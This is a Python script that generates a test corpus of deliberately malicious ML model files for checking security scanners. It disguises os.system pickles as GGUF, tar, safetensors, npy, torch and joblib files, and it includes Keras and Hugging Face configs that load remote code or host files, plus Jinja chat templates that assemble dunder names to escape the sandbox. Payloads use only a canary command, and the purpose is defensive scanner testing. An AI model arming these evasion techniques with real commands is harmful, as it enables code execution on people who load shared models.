"""Second-wave corpus generator: malicious files grouped by the scanner root cause they probe
(every reading a loader could take, structural parsing, allow-lists, compression wrappers,
torch weights-only semantics, Jinja dunder assembly, not-scanned is not a pass).

Written from the advisories' descriptions (reference `model-scanning.md` §6 and issue 15), not
copied from any scanner's fixtures. Payloads only name a canary command; nothing is executed.
Run `python tests/probes/artifacts/corpus.py OUTDIR` to write the files for other scanners.
"""

from __future__ import annotations

import io
import json
import struct
import sys
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

from archives import zip_bytes  # noqa: E402
from pickles import call, g, s, sg, tup  # noqa: E402

CMD = "touch /tmp/aisec-canary"
FLAGGED = "flagged"  # malicious or suspicious
MALICIOUS = "malicious"
NOT_CLEAN = "not-clean"  # error or worse: at least never a pass


@dataclass(frozen=True)
class Case:
    root_cause: int  # issue 15 numbering
    id: str
    technique: str
    build: Callable[[], bytes]
    filename: str
    expect: str = FLAGGED

    def write(self, folder: Path) -> Path:
        path = folder / f"rc{self.root_cause}-{self.id}" / self.filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(self.build())
        return path


def _proto0_payload() -> bytes:
    """A protocol-0 pickle (no PROTO opcode, no magic) calling os.system."""
    return g("os", "system") + b"(S'" + CMD.encode() + b"'\ntR."


# --- root cause 1: every reading a loader could take -------------------------------------------


def gguf_magic_then_pickle() -> bytes:
    # 'G' (BINFLOAT) swallows "GUF" + the version + one byte; POP drops the float; then the
    # payload. A GGUF reader sees a valid magic/version and garbage counts.
    head = b"GGUF" + struct.pack("<I", 3) + b"\x00"
    return head + b"0" + _proto0_payload() + b"\x00" * 64


def tar_header_then_pickle() -> bytes:
    # the tar member's name is itself a pickle: pickle.load from byte 0 reads the name field
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        info = tarfile.TarInfo(_proto0_payload().decode("latin-1")[:99])
        data = b"weights"
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def safetensors_with_trailing_zip() -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    st = struct.pack("<Q", len(header)) + header + b"\x00\x00\x80\x3f"
    evil = b"\x80\x02" + call(g("os", "system"), s(CMD)) + b"."
    return st + zip_bytes([("archive/data.pkl", evil)])


# --- root cause 2: structural parsing, not a head window ---------------------------------------


def pickle_long_first_argument() -> bytes:
    # protocol 0: a 20 kB string literal first, popped, then the payload beyond any head window
    return b"S'" + b"A" * 20_000 + b"'\n0" + _proto0_payload()


def pickle_first_opcode_not_protocol0() -> bytes:
    # no PROTO, and the first opcode (SHORT_BINUNICODE) is a protocol-4 one: pickle.load
    # accepts any opcode at any position
    short = b"\x8c\x02os\x8c\x06system\x93"
    return short + tup(s(CMD)) + b"R."


def pickle_padding_then_payload() -> bytes:
    # NONE/POP padding for 64 kB: a loader walks it, a head window ends inside it
    return b"N0" * 32_768 + _proto0_payload()


def keras_config_padded() -> bytes:
    layer = {
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": "ZXZpbA=="}}},
    }
    tree = {"config": {"layers": [layer]}, "class_name": "Sequential"}
    return b"{" + b" " * 8192 + json.dumps(tree)[1:].encode()


def keras_config_escaped_keys() -> bytes:
    text = json.dumps(
        {
            "class_name": "Sequential",
            "config": {"layers": [{"class_name": "Lambda", "module": "os", "config": {}}]},
        }
    )
    return text.replace('"class_name"', '"\\u0063lass_name"').encode()


def hf_config_remote_code_padded() -> bytes:
    tree = {"description": "x" * 6000, "auto_map": {"AutoModel": "evil.Model"}}
    return json.dumps(tree).encode()


def npz_object_array_descr_variants() -> bytes:
    # an .npy whose descr spells the object dtype as a structured field
    payload = b"\x80\x02" + call(g("os", "system"), s(CMD)) + b"."
    header = "{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }"
    raw = header.encode()
    raw += b" " * (63 - (10 + len(raw)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + payload


def npy_object_spelled_out() -> bytes:
    # descr 'object' (not 'O'): numpy builds an object dtype from it and unpickles the data
    payload = b"\x80\x02" + call(g("os", "system"), s(CMD)) + b"."
    raw = b"{'descr': 'object', 'fortran_order': False, 'shape': (1,), }"
    raw += b" " * (63 - (10 + len(raw)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + payload


def keras_config_model_in_a_string() -> bytes:
    # a config value that is itself a serialised model (with an os-module layer)
    inner = {
        "class_name": "Sequential",
        "config": {"layers": [{"class_name": "Lambda", "module": "os", "config": {}}]},
    }
    dense = {"class_name": "Dense", "module": "keras.layers", "config": {"name": "d"}}
    dense["config"]["description"] = json.dumps(inner)
    return json.dumps({"class_name": "Sequential", "config": {"layers": [dense]}}).encode()


def keras_vocabulary_file() -> bytes:
    layer = {
        "class_name": "StringLookup",
        "module": "keras.layers",
        "config": {"name": "lookup", "vocabulary": "/etc/passwd"},
    }
    return json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}}).encode()


def _pb_varint(n: int) -> bytes:
    out = bytearray()
    while True:
        out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)


def _pb(number: int, payload: bytes) -> bytes:
    return _pb_varint(number << 3 | 2) + _pb_varint(len(payload)) + payload


def tf_table_from_text_file() -> bytes:
    # SavedModel whose graph initialises a lookup table from a file on the serving host
    node = _pb(1, b"table/init") + _pb(2, b"InitializeTableFromTextFileV2") + _pb(3, b"x:0")
    graph = _pb(1, node) + _pb(4, _pb_varint(1 << 3) + _pb_varint(1087))
    meta_info = _pb(4, b"serve") + _pb(5, b"2.16.1")
    return _pb_varint(1 << 3) + _pb_varint(1) + _pb(2, _pb(1, meta_info) + _pb(2, graph))


# --- root cause 6: compression a loader opens transparently ------------------------------------


def _evil_pickle() -> bytes:
    return b"\x80\x04" + call(sg("os", "system"), s(CMD)) + b"."


def lz4_pickle() -> bytes:
    import lz4.frame

    return bytes(lz4.frame.compress(_evil_pickle()))


def zstd_pickle() -> bytes:
    import zstandard

    return bytes(zstandard.ZstdCompressor().compress(_evil_pickle()))


def joblib_zf_pickle() -> bytes:
    # joblib < 0.10 'ZF' container: b"ZF", the hex length left-justified in 19 bytes, zlib data
    data = _evil_pickle()
    return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data)


# --- root cause 4: what torch's weights-only loader does with allowed globals ------------------


def _tensor(key: str = "0", numel: int = 4) -> bytes:
    storage = b"(" + s("storage") + g("torch", "FloatStorage") + s(key) + s("cpu")
    storage += b"J" + struct.pack("<i", numel) + b"tQ"
    args = tup(
        storage,
        b"K\x00",
        b"K\x04\x85",
        b"K\x01\x85",
        b"\x89",
        g("collections", "OrderedDict") + b")R",
    )
    return g("torch._utils", "_rebuild_tensor_v2") + args + b"R"


def _torch_zip(data_pkl: bytes, storage: bytes) -> bytes:
    return zip_bytes(
        [
            ("archive/data.pkl", data_pkl),
            ("archive/byteorder", b"little"),
            ("archive/version", b"3\n"),
            ("archive/data/0", storage),
        ]
    )


def torch_setitems_on_tensor() -> bytes:
    # only weights-only-allowed globals, but SETITEMS is applied to the rebuilt tensor: the
    # loader calls tensor.__setitem__ with pickle-chosen index and value
    body = _tensor() + b"(" + b"J\x00\x00\x01\x00" + b"G" + struct.pack(">d", 1.0) + b"u"
    pkl = b"\x80\x02" + g("collections", "OrderedDict") + b")R" + s("w") + body + b"s."
    return _torch_zip(pkl, bytes(16))


def torch_storage_size_mismatch() -> bytes:
    # data.pkl declares a 1M-element float storage; the member holds 16 bytes
    pkl = b"\x80\x02" + g("collections", "OrderedDict") + b")R" + s("w") + _tensor(numel=1 << 20)
    return _torch_zip(pkl + b"s.", bytes(16))


# --- root cause 5: Jinja attribute names assembled at render time -----------------------------


def _tokenizer_config(template: str) -> Callable[[], bytes]:
    def build() -> bytes:
        tree = {"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": template}
        return json.dumps(tree).encode()

    return build


JINJA_CASES = {
    "dict-join-concat": "{{ ()|attr((dict(__cl=1)|join)~(dict(ass__=1)|join)) }}",
    "dict-literal-join": "{{ ()|attr({'__class__': 1}|join) }}",
    "keys-first": "{{ ()|attr(dict(__class__=1).keys()|first) }}",
    "set-then-attr": "{% set n = dict(__globals__=1)|join %}{{ cycler|attr(n) }}",
    "reverse-join": "{{ ()|attr('__ssalc__'|list|reverse|join) }}",
    "computed-subscript": "{% for m in messages %}{{ m[(dict(__cla=1)|join)~'ss__'] }}{% endfor %}",
    "brace-format": "{{ ()|attr('{}{}'.format('__cla', 'ss__')) }}",
}


CASES: list[Case] = [
    Case(
        1,
        "gguf-magic-then-pickle",
        "GGUF magic in front of a pickle",
        gguf_magic_then_pickle,
        "model.bin",
        MALICIOUS,
    ),
    Case(
        1,
        "tar-header-then-pickle",
        "tar header whose name field is a pickle",
        tar_header_then_pickle,
        "model.pt",
        MALICIOUS,
    ),
    Case(
        1,
        "safetensors-trailing-zip",
        "valid safetensors with a torch zip appended",
        safetensors_with_trailing_zip,
        "model.safetensors",
        MALICIOUS,
    ),
    Case(
        2,
        "pickle-long-first-arg",
        "20 kB first literal pushes the payload out of the head",
        pickle_long_first_argument,
        "model.pkl",
        MALICIOUS,
    ),
    Case(
        2,
        "pickle-first-op-protocol4",
        "no PROTO, protocol-4 first opcode",
        pickle_first_opcode_not_protocol0,
        "weights.dat",
        MALICIOUS,
    ),
    Case(
        2,
        "pickle-padding",
        "64 kB of NONE/POP before the payload",
        pickle_padding_then_payload,
        "model.ckpt",
        MALICIOUS,
    ),
    Case(
        2,
        "keras-config-padded",
        "Keras config with 8 kB of whitespace before its keys",
        keras_config_padded,
        "config.json",
    ),
    Case(
        2,
        "keras-config-escaped-keys",
        "Keras config keys written with unicode escapes",
        keras_config_escaped_keys,
        "config.json",
    ),
    Case(
        2,
        "hf-config-remote-code-padded",
        "auto_map after a 6 kB value",
        hf_config_remote_code_padded,
        "config.json",
    ),
    Case(
        3,
        "npy-structured-object",
        "structured dtype with an object field carries a pickle",
        npz_object_array_descr_variants,
        "arr.npy",
        MALICIOUS,
    ),
    Case(
        6,
        "lz4-pickle",
        "pickle in an LZ4 frame (joblib compress='lz4')",
        lz4_pickle,
        "model.joblib",
        MALICIOUS,
    ),
    Case(6, "zstd-pickle", "pickle in a zstd frame", zstd_pickle, "model.pkl.zst", MALICIOUS),
    Case(
        6,
        "joblib-zf-pickle",
        "pickle in joblib's legacy ZF zlib container",
        joblib_zf_pickle,
        "model.pkl",
        MALICIOUS,
    ),
]


CASES += [
    Case(
        3,
        "npy-object-spelled-out",
        "descr 'object' instead of 'O'",
        npy_object_spelled_out,
        "arr.npy",
        MALICIOUS,
    ),
    Case(
        4,
        "torch-setitems-on-tensor",
        "SETITEMS applied to a rebuilt tensor",
        torch_setitems_on_tensor,
        "model.pt",
    ),
    Case(
        4,
        "torch-storage-size-mismatch",
        "declared storage size disagrees with its member",
        torch_storage_size_mismatch,
        "model.pt",
    ),
]
CASES += [
    Case(
        5,
        f"jinja-{cid}",
        "dunder name built at render time in a chat template",
        _tokenizer_config(template),
        "tokenizer_config.json",
        MALICIOUS,
    )
    for cid, template in JINJA_CASES.items()
]
CASES.append(
    Case(
        5,
        "jinja-loop-built-name",
        "attribute name built in a loop (not foldable)",
        _tokenizer_config(
            "{% for k in ['__cl', 'ass__'] %}{% set ns.x = ns.x ~ k %}"
            "{% endfor %}{{ ()|attr(ns.x) }}"
        ),
        "tokenizer_config.json",
    )
)


CASES += [
    Case(
        3,
        "keras-model-in-a-string",
        "a config value holding a serialised model",
        keras_config_model_in_a_string,
        "config.json",
    ),
    Case(
        3,
        "keras-vocabulary-file",
        "StringLookup vocabulary read from a host path",
        keras_vocabulary_file,
        "config.json",
    ),
    Case(
        3,
        "tf-table-from-text-file",
        "graph initialises a table from a file on the host",
        tf_table_from_text_file,
        "saved_model.pb",
    ),
]


def gguf_impossible_count() -> bytes:
    # valid magic and version, a tensor count no file of this size can hold
    return b"GGUF" + struct.pack("<IQQ", 3, 1 << 40, 0) + b"\x00" * 64


def onnx_field_overrun() -> bytes:
    # ir_version, then a graph field whose declared length runs past the end of the file
    return b"\x08\x07" + b"\x3a" + b"\xff\xff\x03" + b"\x0a\x02" + b"\x00" * 32


CASES += [
    Case(
        7,
        "gguf-impossible-count",
        "tensor count that cannot fit in the file",
        gguf_impossible_count,
        "model.gguf",
    ),
    Case(
        7,
        "onnx-field-overrun",
        "protobuf field longer than the file",
        onnx_field_overrun,
        "model.onnx",
    ),
]


def keras_unlisted_object() -> bytes:
    # a keras.* reference that Keras itself does not export (an allow-list, not a deny-list)
    layer = {"class_name": "ExportArchive", "module": "keras.export", "config": {"name": "x"}}
    return json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}}).encode()


CASES += [
    Case(
        3,
        "keras-unlisted-object",
        "a keras.* name outside Keras's public API",
        keras_unlisted_object,
        "config.json",
    ),
]


def main(argv: list[str]) -> int:
    out = Path(argv[1] if len(argv) > 1 else "corpus-wave2")
    for case in CASES:
        print(case.write(out))
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
